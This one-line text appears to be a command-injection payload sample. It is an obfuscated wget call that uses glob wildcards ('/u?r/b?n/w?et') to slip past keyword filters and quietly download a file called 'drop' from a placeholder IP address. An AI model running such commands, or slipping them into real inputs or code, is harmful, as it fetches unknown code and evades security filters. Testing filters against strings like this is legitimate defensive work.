/u?r/b?n/w?et -q http://192.0.2.8/drop
